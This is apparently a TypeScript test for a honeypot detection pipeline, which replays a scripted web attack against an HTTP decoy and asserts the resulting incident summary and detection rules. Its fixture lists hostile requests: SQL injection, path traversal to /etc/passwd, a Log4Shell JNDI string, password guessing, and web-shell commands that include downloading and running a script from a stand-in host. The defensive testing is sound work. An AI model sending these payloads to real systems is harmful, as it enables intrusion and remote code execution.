/** The words of the HTTP decoy, from its telemetry through web inspection to the incident: fails when the two ends stop understanding each other. */
import type { Event } from '@netsentinel/contracts/event';
import { Incident } from '@netsentinel/contracts/incident';
import { foldEvent } from './fold.ts';
import { newActorState, rememberBefore } from '@netsentinel/detect/actor-state';
import { createDetectors } from '@netsentinel/detect/detectors';
import { normaliseSensorEvent } from '@netsentinel/normalise/decoy/decoy.parser';
import { expect, it } from 'vitest';
import { playService } from '@netsentinel/decoys/service/session.fixture';
import { httpDecoy } from '@netsentinel/decoys/http/http.decoy';

const ATTACK: readonly (readonly [method: string, target: string, body?: string])[] = [
  ['GET', '/.env'],
  ['GET', '/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20'],
  ['GET', '/cgi-bin/../../../../etc/passwd'],
  ['GET', '/?x=${jndi:ldap://192.0.2.1/a}'],
  ['POST', '/wp-login.php', 'log=admin&pwd=a'],
  ['POST', '/wp-login.php', 'log=admin&pwd=b'],
  ['POST', '/wp-login.php', 'log=admin&pwd=secret'],
  ['GET', '/shell.php?cmd=uname+-a;cat+/etc/passwd'],
  ['GET', '/shell.php?cmd=wget+http://192.0.2.9/x.sh+-O+/tmp/x.sh;sh+/tmp/x.sh'],
];

it('becomes one incident that says what happened', async () => {
  const service = playService(httpDecoy, {
    applications: [{ application: 'wordpress' }],
    credentials: { accept: [{ user: 'admin', password: 'secret' }], anyAfterTries: false, weakPairs: false },
  });
  for (const [method, target, body] of ATTACK) {
    const client = service.connect();
    const form =
      body === undefined ? '' : `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n`;
    await client.send(
      `${method} ${target} HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n${form}\r\n${body ?? ''}`,
    );
    for (let i = 0; i < 40 && !client.closed; i++) await client.settle(50);
  }
  const state = newActorState();
  const detectors = createDetectors();
  const rules = new Set<string>();
  let incident: Incident | undefined;
  for (const [at, told] of service.events.entries()) {
    const event = stamped(told, at);
    const detections = detectors.process(event, state);
    for (const { rule } of detections) rules.add(rule.id);
    incident = foldEvent(incident, event, detections, { before: state.before });
    if (incident === undefined) rememberBefore(state, event);
  }
  await service.close();
  expect(Incident.safeParse(incident).error).toBeUndefined();
  expect(incident).toMatchObject({
    title: 'HTTP break-in from 198.51.100.7, logged in as admin, brought in and ran a file, looked around',
    severity: 'critical',
    counts: { logins: 1, failures: 2 },
  });
  expect(incident?.tactics).toEqual(expect.arrayContaining(['TA0001', 'TA0006', 'TA0007', 'TA0002']));
  expect([...rules]).toEqual(
    expect.arrayContaining([
      'web-attack',
      'web-exploit',
      'web-probing',
      'decoy-login-success',
      'dropped-file-executed',
    ]),
  );

  function stamped(told: (typeof service.events)[number], at: number): Event {
    const stamp = {
      sensor: { id: 'http-1', type: 'http' },
      epoch: 'm1abcdef',
      sequence: at + 1,
      receivedAt: service.clock.now(),
      sourceVerified: true,
    };
    const result = normaliseSensorEvent(told, stamp);
    if (!result.ok) throw new Error(result.error.event.reason);
    return result.value;
  }
});
